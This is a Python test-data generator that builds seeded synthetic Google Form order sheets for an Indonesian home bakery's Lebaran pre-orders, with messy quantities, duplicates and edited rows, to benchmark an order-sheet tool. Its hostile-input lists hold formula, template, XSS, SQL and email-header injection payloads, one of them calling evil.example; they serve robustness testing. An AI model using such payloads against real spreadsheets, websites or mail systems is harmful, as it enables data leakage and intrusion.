"""Realistic shops for the benchmarks: N form answers over M products and K batches.

Everything is derived from one seed (``random.Random(seed)``; no clock, no hashing of objects),
so ``generate(10_000, seed=7)`` is the same shop on every machine and every run.

A generated shop is a home bakery's Lebaran season: K batches one week apart, the last one
opening a few hours before ``now`` with most of the orders arriving in its first minutes. The
answers contain what real Google Form answers contain, at fixed rates:

* quantities typed as words or fractions (``dua``, ``1.5``, ``-1``, ``banyak``) and messy but
  valid ones (``2 jar``, ``2x``, `` 3 ``, ``1×``, ``-``, ``2.0`` as a number);
* double submissions of the same order a few minutes apart (duplicates);
* edited answers: Google overwrites the row and refreshes its timestamp, so the sheet's row
  order is no longer time order;
* invalid or missing e-mail addresses, missing names, an inactive product, empty orders;
* hostile text in names, addresses and notes: formulas (``=HYPERLINK(…)``, ``+``, ``-``, ``@``),
  template syntax (``{{ 7*7 }}``), HTML, line breaks and tabs, right-to-left marks, emoji and
  two-kilobyte notes;
* orders before a window opens or after it closes, and buyers who go over ``Max per buyer``
  across several orders.
"""

from __future__ import annotations

import datetime as dt
import random
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from openorder_sheets.core.form import FORM_QUESTIONS, form_headers


def _words(text: str) -> list[str]:
    return text.split()


# (SKU, name, price, unit); no name is part of another, so every form column maps to one product.
PRODUCT_POOL = [
    ("NASTAR", "Nastar Premium", 85000, "jar"),
    ("KASTENGEL", "Kastengel Keju", 95000, "jar"),
    ("PUTRI", "Putri Salju", 75000, "jar"),
    ("LIDAH", "Lidah Kucing", 70000, "jar"),
    ("SAGU", "Sagu Keju", 65000, "jar"),
    ("SEMPRIT", "Semprit Susu", 60000, "jar"),
    ("CHOCO", "Choco Chips", 72000, "jar"),
    ("KACANG", "Kue Kacang", 58000, "jar"),
    ("SALJU", "Mawar Salju Pandan", 78000, "jar"),
    ("BOLU", "Bolu Pandan Gulung", 90000, "loyang"),
    ("LAPIS", "Lapis Legit", 350000, "loyang"),
    ("SPIKU", "Spiku Surabaya", 180000, "loyang"),
    ("BROWNIES", "Brownies Panggang", 120000, "loyang"),
    ("HAMPERS", "Hampers Lebaran", 450000, "paket"),
    ("ROTI", "Roti Maryam", 45000, "pak"),
    ("KEMBANG", "Kembang Goyang", 55000, "toples"),
]
MATERIAL_POOL = [
    ("Mentega Wijsman", "kg"),
    ("Tepung terigu", "kg"),
    ("Gula halus", "kg"),
    ("Telur", "butir"),
    ("Keju Edam", "kg"),
    ("Selai nanas", "kg"),
    ("Susu bubuk", "kg"),
    ("Toples 500 ml", "pcs"),
]
FIRST = _words(
    "Siti Budi Dewi Agus Rina Maya Hendra Fitri Yusuf Lina Rudi Putu Dian Wulan Tono Ani "
    "Bayu Citra Eko Fajar Gita Hadi Indah Joko Kartika Lestari Made Nur Oki Purnama Ratna "
    "Sri Tri Umi Wahyu Yanti Zainal Ahmad Bambang Dwi"
)
LAST = _words(
    "Rahmawati Santoso Lestari Pratama Kusuma Sari Wijaya Handayani Hidayat Marlina Hartono "
    "Susanti Sugiarto Firmansyah Nugroho Saputra Wibowo Setiawan Kurniawan Siregar Nasution "
    "Simanjuntak Ginting Tanjung Harahap Gunawan Halim Tan Lim"
)
DOMAINS = ["gmail.com", "gmail.com", "gmail.com", "yahoo.co.id", "yahoo.com", "outlook.com"]
CITIES = [
    "Depok",
    "Bandung",
    "Bekasi",
    "Bogor",
    "Jakarta Timur",
    "Tangerang",
    "Surabaya",
    "Semarang",
    "Yogyakarta",
    "Malang",
    "Medan",
    "Denpasar",
    "Makassar",
    "Solo",
    "Cirebon",
]
STREETS = _words("Melati Kenanga Anggrek Mawar Cempaka Dahlia Kamboja Teratai Flamboyan Kenari")
DELIVERY = ["Kirim (kurir)", "Kirim (kurir)", "Kirim (kurir)", "Ambil sendiri"]
OPT_IN = ["Ya, kabari saya", "Tidak", "", "Ya"]

BAD_QUANTITIES = ["dua", "1.5", "-1", "banyak", "1/2", "tiga jar", "2,5", "??", "sepuluh"]
MESSY_VALID_QUANTITIES = ["2 jar", "2x", " 3 ", "1×", "1 toples", "-", "0", 2.0, "4 pcs"]
HOSTILE_NAMES = [
    '=HYPERLINK("http://hadiah.example","Klik di sini")',
    "=1+1",
    "+6281234567890",
    "-Budi-",
    "@admin",
    "Kak {{ 7*7 }} Ani",
    "{% for x in range(9) %}{{ x }}{% endfor %}",
    "<script>alert('x')</script>",
    "<b>Bu</b> Sari &amp; keluarga",
    "Putu\nAyu Lestari",
    "\tTab Di Depan",
    "\u202eilsuR\u202c Rusli",
    "Dewi 🌙✨🎁",
    'O\'Brien "Si Bule"',
    "Robert'); DROP TABLE orders;--",
    "\r\nBcc: victim@example.com",
]
HOSTILE_NOTES = [
    '=IMPORTXML("http://evil.example","//a")',
    "Tolong dibungkus rapi 🎁 pakai pita hijau 🙏",
    "{{ config.items() }}",
    "Subject: hadiah\nBcc: semua@example.com",
    "<img src=x onerror=alert(1)>",
    "@channel tolong cek",
    (
        "Kak, tolong dibungkus rapi ya untuk hampers Lebaran ke mertua 🎁🌙✨ Kalau bisa pakai "
        "pita hijau, terus kartu ucapannya tulis 'Mohon maaf lahir dan batin' 🙏 "
    )
    * 12,
]
BAD_EMAILS = ["agus.pratama@gmail", "budi@", "", "siti at gmail.com", "rina@@gmail.com", None]
PHONE_FORMATS = [
    "08{a}{b}{c}",
    "0{a}-{b}-{c}",
    "+62 {a} {b} {c}",
    "62{a}{b}{c}",
    "+62-{a}-{b}-{c}",
    "(021) {b}-{c}",
    "",
]


@dataclass
class Rates:
    """How often each kind of messy answer appears (fractions of all rows)."""

    bad_quantity: float = 0.03
    messy_valid_quantity: float = 0.05
    duplicate: float = 0.02
    edited: float = 0.02
    bad_email: float = 0.01
    missing_name: float = 0.005
    hostile_text: float = 0.02
    empty_order: float = 0.005
    inactive_product: float = 0.005
    outside_window: float = 0.01
    long_note: float = 0.01


@dataclass
class GeneratedShop:
    """Plain rows for every seller tab, the config's raw TOML data and the instant to sync at."""

    seed: int
    orders: int
    products: list[list[Any]]
    materials: list[list[Any]]
    batches: list[list[Any]]
    response_headers: list[str]
    responses: list[list[Any]]
    now: dt.datetime  # naive shop-local wall time
    shop_name: str = "Dapur Bu Sari"
    language: str = "id"
    notes: dict[str, int] = field(default_factory=dict)  # counts of each messy kind

    def config_raw(
        self, *, workbook: str | None = None, spreadsheet: str = "", api_url: str = ""
    ) -> dict[str, Any]:
        """The shop's ``openorder.toml`` as a dict (for :func:`parse_config`)."""
        sheet: dict[str, Any] = (
            {"workbook": workbook}
            if workbook
            else {"spreadsheet": spreadsheet, "api_url": api_url, "credentials": "none.json"}
        )
        return {
            "shop": {
                "name": self.shop_name,
                "language": self.language,
                "timezone": "Asia/Jakarta",
                "currency": "IDR",
                "form_url": "https://forms.gle/dapurbusari",
                "reply_to": "dapur.busari@example.com",
            },
            "sheet": sheet,
            "rules": {"payment_due_hours": 48, "payment_reminder_hours": 12},
            "email": {"from": "dapur.busari@example.com", "transport": "outbox"},
        }

    def config_path(self, folder: Path) -> Path:
        return folder / "openorder.toml"


def _phone(rng: random.Random) -> str:
    pattern = rng.choice(PHONE_FORMATS)
    return pattern.format(
        a=rng.randint(811, 899), b=rng.randint(1000, 9999), c=rng.randint(1000, 9999)
    )


@dataclass
class _Buyer:
    name: str
    email: str
    phone: str
    address: str
    delivery: str
    opt_in: str


def _buyers(rng: random.Random, count: int) -> list[_Buyer]:
    buyers = []
    for index in range(count):
        first, last = rng.choice(FIRST), rng.choice(LAST)
        local = f"{first}.{last}{index}".lower()
        email = f"{local}@{rng.choice(DOMAINS)}"
        if rng.random() < 0.03:
            email = f" {email.capitalize()} "  # spaces and capitals, as phones type them
        address = (
            f"Jl. {rng.choice(STREETS)} No. {rng.randint(1, 200)}, RT 0{rng.randint(1, 9)}/"
            f"RW 0{rng.randint(1, 9)}, {rng.choice(CITIES)}"
        )
        buyers.append(
            _Buyer(
                f"{first} {last}",
                email,
                _phone(rng),
                address,
                rng.choice(DELIVERY),
                rng.choice(OPT_IN),
            )
        )
    return buyers


def generate(
    orders: int,
    products: int = 12,
    batches: int = 3,
    seed: int = 2027,
    rates: Rates | None = None,
) -> GeneratedShop:
    """A shop with ``orders`` form answers over ``products`` products and ``batches`` batches."""
    if not 1 <= products <= len(PRODUCT_POOL):
        raise ValueError(f"products must be 1..{len(PRODUCT_POOL)}")
    if batches < 1:
        raise ValueError("batches must be at least 1")
    rates = rates or Rates()
    rng = random.Random(seed)
    notes: dict[str, int] = {}

    def count(kind: str) -> None:
        notes[kind] = notes.get(kind, 0) + 1

    catalog = PRODUCT_POOL[:products]
    inactive = catalog[-1][0] if products > 2 else None
    base = dt.datetime(2027, 2, 1, 9, 0)
    windows = []
    for index in range(batches):
        opens = base + dt.timedelta(days=7 * index)
        closes = opens + dt.timedelta(days=5, hours=12)
        windows.append((opens, closes))
    last_open = windows[-1][0]
    now = last_open + dt.timedelta(hours=3)
    batch_names = [f"PO Lebaran {index + 1}" if index else "PO Ramadan" for index in range(batches)]

    # Demand: the last batch (the Lebaran rush) takes most orders, in its first minutes.
    shares = [1.0] * (batches - 1) + [max(1.0, 1.5 * (batches - 1))]
    buyers = _buyers(rng, max(20, int(orders * 0.6)))
    headers = form_headers("id", [f"{name} ({unit})" for _, name, _, unit in catalog])
    first_product = len(FORM_QUESTIONS["id"][0])
    rows: list[list[Any]] = []
    stamps: list[dt.datetime] = []
    demand: dict[tuple[int, str], int] = {}
    while len(rows) < orders:
        batch = rng.choices(range(batches), weights=shares)[0]
        opens, closes = windows[batch]
        if batch == batches - 1:
            minutes = min(rng.expovariate(1 / 25), (now - opens).total_seconds() / 60 - 1)
            stamp = opens + dt.timedelta(minutes=minutes)
        else:
            stamp = opens + (closes - opens) * rng.random()
        if rng.random() < rates.outside_window:
            count("outside_window")
            stamp = opens - dt.timedelta(minutes=rng.randint(1, 600))
        stamp = stamp.replace(microsecond=0)
        # Repeat buyers are common: one in twenty buyers is a regular with about ten orders.
        if rng.random() < 0.3:
            buyer = buyers[rng.randrange(max(1, len(buyers) // 20))]
        else:
            buyer = rng.choice(buyers)
        quantities: list[Any] = [None] * len(catalog)
        for _ in range(rng.choice([1, 1, 1, 2, 2, 3])):
            slot = rng.randrange(len(catalog) - (1 if inactive else 0))
            quantities[slot] = rng.choice([1, 1, 1, 2, 2, 3, 4])
        if rng.random() < rates.empty_order:
            count("empty_order")
            quantities = [None] * len(catalog)
        if inactive and rng.random() < rates.inactive_product:
            count("inactive_product")
            quantities[-1] = 1
        if rng.random() < rates.bad_quantity:
            count("bad_quantity")
            quantities[rng.randrange(len(catalog))] = rng.choice(BAD_QUANTITIES)
        elif rng.random() < rates.messy_valid_quantity:
            count("messy_valid_quantity")
            quantities[rng.randrange(len(catalog))] = rng.choice(MESSY_VALID_QUANTITIES)
        name: Any = buyer.name
        email: Any = buyer.email
        address: Any = buyer.address
        note: Any = ""
        if rng.random() < rates.bad_email:
            count("bad_email")
            email = rng.choice(BAD_EMAILS)
        if rng.random() < rates.missing_name:
            count("missing_name")
            name = rng.choice(["", "   ", None])
        if rng.random() < rates.hostile_text:
            count("hostile_text")
            name = rng.choice(HOSTILE_NAMES)
            note = rng.choice(HOSTILE_NOTES)
            if rng.random() < 0.3:
                address = '=HYPERLINK("http://x.example","alamat")'
        elif rng.random() < rates.long_note:
            count("long_note")
            note = HOSTILE_NOTES[-1]
        row = [
            stamp,
            email,
            name,
            buyer.phone,
            address,
            buyer.delivery,
            *quantities,
            note,
            buyer.opt_in,
        ]
        rows.append(row)
        stamps.append(stamp)
        for slot, quantity in enumerate(quantities):
            if isinstance(quantity, int):
                key = (batch, catalog[slot][0])
                demand[key] = demand.get(key, 0) + quantity
        if len(rows) < orders and rng.random() < rates.duplicate:
            count("duplicate")
            again = list(row)
            again[0] = stamp + dt.timedelta(minutes=rng.randint(1, 10))
            rows.append(again)
            stamps.append(again[0])

    # Google Forms appends rows in arrival order ...
    order = sorted(range(len(rows)), key=lambda i: (stamps[i], i))
    rows = [rows[i] for i in order]
    # ... and an edited answer keeps its row but gets a fresh timestamp (and new items).
    for index in range(len(rows)):
        if rng.random() < rates.edited:
            count("edited")
            row = rows[index]
            window_end = now - dt.timedelta(minutes=1)
            later = row[0] + dt.timedelta(minutes=rng.randint(5, 120))
            row[0] = min(later, window_end)
            slot = first_product + rng.randrange(len(catalog) - (1 if inactive else 0))
            row[slot] = rng.choice([1, 2, 3])

    # Capacity: about 70 % of the demand for every other product (so some buyers wait);
    # unlimited for the rest. A per-buyer limit on the most popular lines.
    product_rows = []
    for index, (sku, name, price, unit) in enumerate(catalog):
        peak = max((demand.get((b, sku), 0) for b in range(batches)), default=0)
        capacity = max(5, int(peak * 0.7)) if index % 2 == 0 else None
        limit = 6 if index % 3 == 0 else None
        product_rows.append(
            [sku, name, price, unit, capacity, limit, sku != inactive, f"{name} ({unit})"]
        )
    material_rows = []
    for sku, _, _, _ in catalog:
        for material, unit in rng.sample(MATERIAL_POOL, 3):
            per_unit = round(rng.uniform(0.05, 0.5), 2) if unit == "kg" else rng.randint(1, 6)
            material_rows.append([sku, material, per_unit, unit])
    batch_rows = []
    for index, (opens, closes) in enumerate(windows):
        stage = "Produksi" if index < batches - 2 else None
        ships = (closes + dt.timedelta(days=7)).date()
        note = "Pengiriman mulai H-7 Lebaran." if index == batches - 1 else ""
        batch_rows.append([batch_names[index], opens, closes, ships, stage, note])
    return GeneratedShop(
        seed=seed,
        orders=orders,
        products=product_rows,
        materials=material_rows,
        batches=batch_rows,
        response_headers=headers,
        responses=rows,
        now=now,
        notes=notes,
    )
